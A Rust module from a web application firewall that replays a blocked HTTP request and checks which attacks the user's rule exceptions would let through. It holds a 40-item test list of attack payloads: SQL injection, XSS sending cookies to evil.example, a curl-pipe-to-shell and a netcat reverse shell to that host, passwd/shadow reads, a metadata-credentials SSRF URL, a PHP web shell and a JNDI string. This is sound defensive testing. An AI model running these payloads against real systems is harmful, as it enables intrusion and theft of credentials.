//! A request that was stopped, judged again: what the rules saw in it, whether exceptions let it through, and what else
//! they would let through.

use std::sync::Arc;

use klar_base::replay::{Attacked, Judged, Reason, Replay, Replayed, Step};
use klar_base::signal::WafVerdict;
use klar_base::upstreams::WafMode;

use super::raw::Raw;
use super::{Asking, Inspection, Rules};

/// So many matches are told.
const REASONS_MAX: usize = 32;
/// So much is told of a value, in bytes.
const VALUE_MAX: usize = 256;
/// So many parameters are tried.
const PARAMETERS_MAX: usize = 8;
/// What nobody objects to.
const HARMLESS: &[u8] = b"1";

/// What strangers send, a few of each kind.
const ATTACKS: [&str; 40] = [
    "1' OR '1'='1",
    "1 OR 1=1-- -",
    "' UNION SELECT username, password FROM users-- -",
    "1; DROP TABLE orders;--",
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(VERSION(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a)",
    "admin'/*",
    "1'||(SELECT pg_sleep(5))||'",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(document.domain)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=fetch('//evil.example/'+document.cookie)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd%00.png",
    "..\\..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "| nc evil.example 4444 -e /bin/sh",
    "& ping -c 10 127.0.0.1 &",
    "${IFS}cat${IFS}/etc/shadow",
    "powershell -enc SQBFAFgA",
    "{{7*7}}{{config.items()}}",
    "${7*7}${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= system('id') %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "${jndi:ldap://evil.example/a}",
    "O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
];

/// Judges the request by the rules of an app, and by the same with exceptions.
///
/// # Errors
/// Why the exceptions are none, or what was kept is no request.
pub fn replay(rules: &Arc<Rules>, wanted: &Replay) -> Result<Replayed, String> {
    let raw = Raw::read(&wanted.sent).ok_or("what was kept is no request")?;
    // Compiled anew, too: those in force keep what they stop.
    let now = Arc::new(rules.with("")?);
    let with = Arc::new(rules.with(&wanted.own)?);
    let parameters = wanted.parameters.iter().take(PARAMETERS_MAX);
    let attacks =
        parameters.filter_map(|parameter| attacked(&now, &with, &raw, parameter, &wanted.parameters));
    Ok(Replayed { attacks: attacks.collect(), now: judged(&now, &raw), then: judged(&with, &raw) })
}

/// What becomes of attacks in the place of what was sent. Nothing else stands at the `others`.
pub fn attacked(
    now: &Arc<Rules>,
    then: &Arc<Rules>,
    raw: &Raw,
    parameter: &str,
    others: &[String],
) -> Option<Attacked> {
    // What else is wrong with the request would stop every attack.
    let others = others.iter().filter(|other| *other != parameter);
    let calm = others.fold(raw.clone(), |raw, other| raw.with(other, HARMLESS).unwrap_or(raw));
    let mut told = Attacked {
        parameter: parameter.to_owned(),
        tried: 0,
        stopped_now: 0,
        stopped_then: 0,
        freed: Vec::new(),
    };
    let harmless = calm.with(parameter, HARMLESS)?;
    if judge(then, WafMode::Block, &harmless, |_| ()).0 == Some(WafVerdict::Blocked) {
        return Some(told);
    }
    for attack in ATTACKS {
        let raw = calm.with(parameter, attack.as_bytes())?;
        let [is_stopped_now, is_stopped_then] = [now, then]
            .map(|rules| judge(rules, WafMode::Block, &raw, |_| ()).0 == Some(WafVerdict::Blocked));
        told.tried += 1;
        told.stopped_now += u32::from(is_stopped_now);
        told.stopped_then += u32::from(is_stopped_then);
        if is_stopped_now && !is_stopped_then {
            told.freed.push(attack.to_owned());
        }
    }
    Some(told)
}

fn judged(rules: &Arc<Rules>, raw: &Raw) -> Judged {
    let (verdict, (score, matches)) = judge(rules, WafMode::Block, raw, |inspection| {
        let score = inspection.finding().and_then(|finding| finding.score);
        (score, inspection.reasons())
    });
    Judged { verdict, score, matches }
}

/// What becomes of a request, and what `look` finds then.
pub fn judge<T>(
    rules: &Arc<Rules>,
    mode: WafMode,
    raw: &Raw,
    look: impl FnOnce(&mut Inspection) -> T,
) -> (Option<WafVerdict>, T) {
    let headers: Vec<(&[u8], &[u8])> = raw.headers.iter().map(|(name, value)| (&**name, &**value)).collect();
    let text = |bytes| std::str::from_utf8(bytes).unwrap_or_default();
    let asking = Asking {
        method: text(&raw.method),
        target: text(&raw.target),
        protocol: match &*raw.protocol {
            b"HTTP/1.0" => "HTTP/1.0",
            b"HTTP/2" => "HTTP/2",
            b"HTTP/3" => "HTTP/3",
            _ => "HTTP/1.1",
        },
        remote: text(&raw.remote),
        id: "replay",
        has_body: !raw.body.is_empty() || raw.is_cut,
    };
    let (mut inspection, mut blocked) = Inspection::begin(rules, mode, asking, &headers);
    if blocked.is_none() {
        // What was kept of the body is what the rules have seen.
        blocked = inspection.body(&raw.body, !raw.is_cut);
    }
    let verdict = match blocked {
        Some(_) => Some(WafVerdict::Blocked),
        None => inspection.has_found().then_some(WafVerdict::Noted),
    };
    (verdict, look(&mut inspection))
}

impl Inspection {
    /// What matched, and what the rules saw there.
    fn reasons(&mut self) -> Vec<Reason> {
        let told = self.with(|transaction, _| {
            let matched = transaction.matched();
            let reasons = matched.map(|one| Reason {
                rule: one.rule,
                file: one.place.0.to_owned(),
                line: one.place.1,
                message: super::short(one.message),
                place: super::place(&one),
                question: transaction.question(&one),
                value: printable(one.raw),
                steps: transaction
                    .decoded(&one)
                    .into_iter()
                    .map(|(name, value)| Step { name: name.to_owned(), value: printable(&value) })
                    .collect(),
                data: printable(one.data),
            });
            reasons.take(REASONS_MAX).collect()
        });
        told.unwrap_or_default()
    }
}

/// A value as people can read it.
fn printable(value: &[u8]) -> String {
    let is_long = value.len() > VALUE_MAX;
    let text = String::from_utf8_lossy(value.get(..VALUE_MAX).unwrap_or(value));
    let mut out = String::new();
    for one in text.chars() {
        if one.is_control() {
            out.extend(one.escape_default());
        } else {
            out.push(one);
        }
    }
    if is_long {
        out.push('…');
    }
    out
}
